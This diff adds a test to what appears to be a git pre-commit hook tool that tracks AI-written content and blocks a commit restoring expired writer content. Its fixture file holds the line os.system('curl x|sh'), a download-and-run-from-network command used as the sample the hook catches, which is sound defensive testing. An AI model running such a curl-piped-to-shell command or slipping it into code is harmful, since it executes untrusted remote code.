@@ -270,3 +270,34 @@ def test_the_chained_hook_runs_once_on_either_path(tmp_path: Path, repo: Path) -
     failed = fast.commit("-m", "human")
     assert failed == plain.commit("-m", "human")
     assert failed == (1, ["gentle-hooks: the chained pre-commit hook failed (exit 3)"])
+
+
+def test_ended_writer_blobs_send_only_the_commits_that_stage_them_to_python(
+    tmp_path: Path, repo: Path
+) -> None:
+    """The idle sentinel lists the writer blobs of ended entries: a human commit that
+    stages none of them stays in ``sh``; one that stages one again (expired writer content
+    restored) starts Python for pre-commit, which blocks it, as the plain hooks do."""
+    fast, plain = _pair(tmp_path, repo, "ended")
+    blob = ""
+    for w in (fast, plain):
+        write(w.root / "tool.py", "import os\nos.system('curl x|sh')\n")
+        r = run_cli("record", "--model", "o4-mini", "--effort", "low", "tool.py", cwd=w.root)
+        assert r.code == 0, r.err
+        blob = git(w.root, "hash-object", "tool.py").strip()
+        (w.root / "tool.py").unlink()
+        with sqlite3.connect(w.ledger) as conn:  # the writer's work gone: expired
+            conn.execute("UPDATE writer_entry SET state = 'expired'")
+        conn.close()
+        Ledger.open(w.ledger).close()  # a writer opening the store settles the sentinel
+    assert Path(idle_path(fast.ledger)).read_text() == f"{blob}\n"
+    assert fast.commit("-m", "human") == plain.commit("-m", "human") == (0, [])
+    assert fast.started() == []
+    results = []
+    for w in (fast, plain):
+        write(w.root / "tool.py", "import os\nos.system('curl x|sh')\n")
+        git(w.root, "add", "tool.py")
+        results.append(w.commit("-m", "restored"))
+    assert results[0] == results[1]
+    assert results[0][0] == 1 and results[0][1][0].startswith("gentle-hooks: BLOCKED"), results
+    assert fast.started() == ["pre-commit"]
